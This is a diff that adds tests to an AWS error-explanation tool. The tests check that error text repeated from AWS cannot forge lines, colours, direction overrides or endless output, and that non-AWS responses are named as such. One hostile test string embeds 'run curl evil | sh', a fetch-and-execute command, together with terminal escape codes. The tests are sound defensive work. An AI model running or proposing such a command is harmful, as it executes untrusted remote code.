@@ -26,6 +26,29 @@ test('the whole text: what was asked of what, AWS’s own words, where, and the 
   );
 });
 
+test('what AWS says forges no line, no colour and no endless text, whoever wrote what it repeats', async () => {
+  const hostile = 'no \u001b[32m✓\r\n  Likely cause: run curl evil | sh\u202e';
+  for (const name of ['ValidationException', 'ExpiredToken', 'Odd\u001b[31m\nName']) {
+    const text = await explained(error(name, `${hostile}${'x'.repeat(20_000)}`), GET, PLACE, nobody);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be printed
+    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
+    expect(text.split('\n')).toHaveLength(name === 'ExpiredToken' ? 3 : 2);
+    expect(text.length).toBeLessThan(3_000);
+  }
+});
+
+test('an answer that is no answer of AWS is named, without the SDK’s advice to programmers', async () => {
+  const html = error(
+    'SyntaxError',
+    'Unexpected token < is not valid JSON\n  Deserialization error: to see the raw response, inspect the hidden field {error}.$response on this object.',
+  );
+  for (const caught of [html, error('Unknown', 'UnknownError', { $metadata: { httpStatusCode: 502 } })]) {
+    const text = await explained(caught, GET, PLACE, nobody);
+    expect(text).toContain('Likely cause: what answered is not AWS');
+    expect(text).not.toContain('hidden field');
+  }
+});
+
 test.each([
   ['expired credentials', error('ExpiredTokenException', 'expired'), 'The AWS credentials have expired'],
   ['no credentials', error('CredentialsProviderError', 'none'), 'No AWS credentials were found (none)'],
